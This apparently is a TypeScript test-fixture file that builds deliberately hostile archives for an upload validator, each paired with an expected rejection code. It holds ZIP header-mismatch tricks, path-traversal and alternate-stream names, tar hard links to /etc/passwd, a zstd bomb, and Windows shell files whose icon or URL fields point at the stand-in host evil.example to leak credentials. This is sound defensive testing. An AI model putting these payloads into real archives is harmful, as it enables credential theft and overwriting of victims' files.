import { crc32, deflateRawSync, gzipSync, zstdCompressSync } from 'node:zlib'
import { zipFile } from '../files/zip-file.ts'
import { allAs, type Hostile } from './hostile-file.ts'

// Archives of which two programs see two things, and what acts when it is only unpacked and looked at.

const text = { name: 'a.txt', data: 'evidence' }
const data = Buffer.from(text.data)
const deflated = deflateRawSync(data)
const extraField = (id: number, content: Buffer): Buffer => {
  const head = Buffer.alloc(4)
  head.writeUInt16LE(id, 0)
  head.writeUInt16LE(content.length, 2)
  return Buffer.concat([head, content])
}
const largeSizes = (size: number, compressedSize: number): Buffer => {
  const sizes = Buffer.alloc(16)
  sizes.writeBigUInt64LE(BigInt(size), 0)
  sizes.writeBigUInt64LE(BigInt(compressedSize), 8)
  return extraField(1, sizes)
}
/** Another name beside the one of the entry, with the checksum of that one. */
const unicodeName = (raw: string, name: string): Buffer => {
  const content = Buffer.alloc(5)
  content[0] = 1
  content.writeUInt32LE(crc32(Buffer.from(raw)), 1)
  return extraField(0x7075, Buffer.concat([content, Buffer.from(name)]))
}

/** An archive of one entry with extra fields before its data and in the directory; both headers leave the sizes to them. */
function extended(name: string, local: Buffer, central: Buffer, hasLargeSizes = true): Buffer {
  const sizes = hasLargeSizes ? [0xffff_ffff, 0xffff_ffff] : [deflated.length, data.length]
  const common = (header: Buffer, at: number, extra: Buffer) => {
    header.writeUInt16LE(8, at)
    header.writeUInt32LE(crc32(data), at + 6)
    header.writeUInt32LE(sizes[0] ?? 0, at + 10)
    header.writeUInt32LE(sizes[1] ?? 0, at + 14)
    header.writeUInt16LE(name.length, at + 18)
    header.writeUInt16LE(extra.length, at + 20)
  }
  const before = Buffer.alloc(30)
  before.writeUInt32LE(0x0403_4b50, 0)
  common(before, 8, local)
  const first = Buffer.concat([before, Buffer.from(name), local, deflated])
  const record = Buffer.alloc(46)
  record.writeUInt32LE(0x0201_4b50, 0)
  common(record, 10, central)
  const directory = Buffer.concat([record, Buffer.from(name), central])
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x0605_4b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(first.length, 16)
  return Buffer.concat([first, directory, end])
}
const right = largeSizes(data.length, deflated.length)
/** An entry whose sizes follow its data, with what follows them. */
const described = (record: Buffer) =>
  zipFile([
    {
      ...text,
      flags: 0x808,
      local: { crc: 0, size: 0, compressedSize: 0 },
      compressed: deflated,
      central: { compressedSize: deflated.length },
    },
  ])
    .toString('latin1')
    .replace('PK\x01\x02', `${record.toString('latin1')}PK\x01\x02`)
const withRecord = (record: Buffer): Buffer => {
  const whole = Buffer.from(described(record), 'latin1')
  whole.writeUInt32LE(whole.readUInt32LE(whole.length - 6) + record.length, whole.length - 6)
  return whole
}
const descriptor = (size: number): Buffer => {
  const record = Buffer.alloc(16)
  record.writeUInt32LE(0x0807_4b50, 0)
  record.writeUInt32LE(crc32(data), 4)
  record.writeUInt32LE(deflated.length, 8)
  record.writeUInt32LE(size, 12)
  return record
}
/** Archives that tell the truth in the same ways: of the corpus of honest files. */
export const toldTwice: readonly (readonly [what: string, content: Buffer])[] = [
  ['with sizes in extra fields', extended('a.txt', right, right)],
  [
    'with a second name of the same kind',
    extended('a.txt', unicodeName('a.txt', '證據.txt'), unicodeName('a.txt', '證據.txt'), false),
  ],
  ['with sizes after its data', withRecord(descriptor(data.length))],
  ['with sizes after its data, without a signature', withRecord(descriptor(data.length).subarray(4))],
]

/** A tape archive of one entry. */
function tapeArchive(name: string, type = '0', link = ''): Buffer {
  const head = Buffer.alloc(512)
  head.write(name, 0)
  head.write('0000644\0' + '0000000\0'.repeat(2), 100)
  head.write('00000000001\0' + '00000000000\0' + '        ', 124)
  head.write(type + link, 156)
  head.write('ustar\0' + '00', 257)
  const sum = head.reduce((all, byte) => all + byte, 0)
  head.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
  return Buffer.concat([head, Buffer.alloc(512, 'x'), Buffer.alloc(1_024)])
}

/** [its name, what it says]: no program is needed for what these do. */
const acting: readonly (readonly [name: string, content: string])[] = [
  ['logo/desktop.ini', '[.ShellClassInfo]\nIconResource=\\\\evil.example\\x'],
  ['AUTORUN.INF', '[autorun]\nopen=setup'],
  ['report.url', '[InternetShortcut]\nURL=file://evil.example/x'],
  ['evidence.library-ms', '<libraryDescription/>'],
  ['evidence.searchConnector-ms', '<searchConnectorDescription/>'],
  ['look.scf', '[Shell]\nIconFile=\\\\evil.example\\x'],
  ['blue.theme', '[Control Panel\\Desktop]\nWallpaper=\\\\evil.example\\x'],
  ['figures.iqy', 'WEB\n1\nhttp://evil.example/'],
  ['settings.reg', 'Windows Registry Editor Version 5.00\n'],
]

const colons: readonly string[] = [
  'a.txt:hidden.txt',
  'a.txt::$DATA',
  'autorun.inf:',
  ':a.txt',
  'folder/C:a.txt',
  'C：a.txt',
  'a.txt：：$DATA',
  'a.txt：$DATA',
  'model:v2.txt',
  'log 12:3.txt',
]

const files: readonly Hostile[] = [
  [
    'has another large size before its data',
    extended('a.txt', largeSizes(3, deflated.length), right),
    'archive-headers-differ',
  ],
  [
    'has another large compressed size before its data',
    extended('a.txt', largeSizes(data.length, 2), right),
    'archive-headers-differ',
  ],
  [
    'has a second name of another kind',
    extended('a.exe', unicodeName('a.exe', 'a.txt'), unicodeName('a.exe', 'a.txt'), false),
    'archive-headers-differ',
  ],
  ['says that sizes follow its data, and none do', withRecord(Buffer.alloc(0)), 'archive-headers-differ'],
  ['has another size after its data', withRecord(descriptor(3)), 'archive-headers-differ'],
  [
    'is marked as written in pieces, with a program in it',
    Buffer.concat([
      Buffer.from('PK\x07\x08', 'latin1'),
      zipFile([{ name: 'setup.exe', data: 'MZ' }], { directoryOffset: 4 }),
    ]),
    'content-malformed',
  ],
  ['has a path in full width', zipFile([{ ...text, name: '．．／etc／passwd' }]), 'archive-path'],
  ['has the path of a share', zipFile([{ ...text, name: '//server/share/a.txt' }]), 'archive-path'],
  ['has a path of devices', zipFile([{ ...text, name: String.raw`\\?\C:\a.txt` }]), 'archive-path'],
  ...colons.map((name): Hostile => [
    `could have a drive or a second stream at ${name}`,
    zipFile([{ ...text, name }]),
    'archive-path',
  ]),
  [
    'has what a program would write into another entry, before its colon',
    zipFile([text, { ...text, name: 'log 12' }, { ...text, name: 'log 12:30' }]),
    'archive-duplicate',
  ],
  [
    'has an entry whose colon a program writes as that of another',
    zipFile([
      { ...text, name: 'log 12:30.txt' },
      { ...text, name: 'log 12_30.txt' },
    ]),
    'archive-duplicate',
  ],
  [
    'has a path in overlong UTF-8',
    zipFile([{ ...text, name: Buffer.from('..\xc0\xafetc', 'latin1') }]),
    'name-has-marks',
  ],
  ['has a name that no disk takes', zipFile([{ ...text, name: `${'a'.repeat(60_000)}.txt` }]), 'archive-path'],
  [
    'has an entry twice, in other capitals of German',
    zipFile([
      { ...text, name: 'straße.txt' },
      { ...text, name: 'STRASSE.TXT' },
    ]),
    'archive-duplicate',
  ],
  ['has an entry twice, in another width', zipFile([{ ...text, name: 'ａ.txt' }, text]), 'archive-duplicate'],
  [
    'has a file that is a folder',
    zipFile([
      { ...text, name: 'a' },
      { ...text, name: 'a/b.txt' },
    ]),
    'archive-duplicate',
  ],
  ['has nothing in it', zipFile([]), 'file-empty'],
  [
    'has empty files in it',
    zipFile([
      { name: 'record.txt', data: '' },
      { name: 'folder/', data: '', method: 0 },
    ]),
    'file-empty',
  ],
  ...acting.map(([name, content]): Hostile => [
    `has ${name}`,
    zipFile([{ name, data: content }]),
    'entry-type-not-accepted',
  ]),
  [
    'has a tape archive with a link',
    zipFile([{ name: 'a.tar', data: tapeArchive('x', '2', '/etc/passwd') }]),
    'entry-type-not-accepted',
  ],
  [
    'has a 7z',
    zipFile([{ name: 'a.7z', data: Buffer.from('377abcaf271c000400000000', 'hex') }]),
    'entry-type-not-accepted',
  ],
  [
    'has a program of Java',
    zipFile([{ name: 'X.class', data: Buffer.from('cafebabe00000034001d', 'hex') }]),
    'entry-type-not-accepted',
  ],
  [
    'has a program for Android',
    zipFile([{ name: 'classes.dex', data: Buffer.from('dex\n035\0') }]),
    'entry-type-not-accepted',
  ],
]

export const lyingArchives = [
  ...allAs('evidence.zip', 'application/zip', files),
  ...allAs('evidence.tar', 'application/x-tar', [
    ['writes outside of its folder', tapeArchive('../x'), 'type-not-accepted'],
    ['has a hard link', tapeArchive('x', '1', '/etc/passwd'), 'type-not-accepted'],
  ]),
  ...allAs('notes.txt', 'text/plain', [['is a tape archive', tapeArchive('x'), 'type-not-accepted']]),
  ...allAs('evidence.tgz', 'application/gzip', [
    ['has a tape archive with a hole', gzipSync(tapeArchive('x', 'S')), 'type-not-accepted'],
  ]),
  ...allAs('evidence.zst', 'application/zstd', [
    ['is a bomb', zstdCompressSync(Buffer.alloc(1_000_000)), 'type-not-accepted'],
  ]),
]
